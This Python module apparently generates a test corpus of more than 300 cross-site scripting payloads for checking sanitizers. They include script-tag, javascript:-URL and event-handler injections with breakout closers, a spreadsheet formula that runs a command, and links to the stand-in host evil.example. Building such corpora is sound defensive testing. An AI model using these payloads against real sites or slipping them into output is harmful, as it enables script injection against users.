"""Texts that would run as script wherever a page put them into HTML, an attribute, a script or an address."""

from __future__ import annotations

_RUN = ("alert(1)", "window.__fired++", "confirm`1`", "top.__fired++")
_EVENTS = "load error click focus mouseover pointerenter toggle animationstart beforeinput copy".split()
_ELEMENTS = (
    "img src=x", "svg", "body", "iframe src=about:blank", "video src=x", "audio src=x", "details open",
    "input autofocus", "select autofocus", "a href=# autofocus tabindex=1", "marquee", "object data=x",
    "style", "math", "table background=x",
)  # fmt: skip
_CLOSERS = (
    "",
    '">',
    "'>",
    "</script>",
    "</noscript>",
    "</title></style></textarea>",
    "-->",
    "]]>",
    "</q></td></table>",
    "`>",
)
_PLAIN = (
    "<script>{run}</script>", "<script src=data:text/javascript,{run}></script>", "<ScRiPt>{run}</sCrIpT>",
    "<a href=\"javascript:{run}\">x</a>", "<a href='java\nscript:{run}'>x</a>", "javascript:{run}", "JaVaScRiPt:{run}//",
    "data:text/html,<script>{run}</script>", "vbscript:{run}", "\" onmouseover=\"{run}\" x=\"", "' onfocus='{run}' autofocus='",
    "<iframe srcdoc='<script>parent.{run}</script>'>", "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<form action=javascript:{run}><button>go</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<object data='javascript:{run}'></object>",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;", "\\\"-{run}-\\\"", "';{run};//", "\";{run};//", "`;{run};//", "*/{run}/*",
    "<!--<script>{run}//-->", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "\u2028{run}\u2029", "\x00<script>{run}</script>", "<img src=x onerror\x0b={run}>", "=cmd|'/c {run}'!A1", "@SUM(1+1)*{run}",
    "__proto__", "constructor", "<template><script>{run}</script></template>", "%3Cscript%3E{run}%3C/script%3E",
)  # fmt: skip


def _payloads() -> tuple[str, ...]:
    found = [text.format(run=run) for text in _PLAIN for run in _RUN[:2]]
    number = 0
    for element in _ELEMENTS:
        for event in _EVENTS:
            run = _RUN[number % len(_RUN)]
            closer = _CLOSERS[number * 7 % len(_CLOSERS)]
            found.append(f"{closer}<{element} on{event}={run}>")
            number += 1
    for closer in _CLOSERS:
        found += [f"{closer}<img src=x onerror={run}>" for run in _RUN]
        found += [f"{closer}<script>{run}</script>" for run in _RUN]
    return tuple(dict.fromkeys(found))


#: At least 300 of them.
PAYLOADS = _payloads()
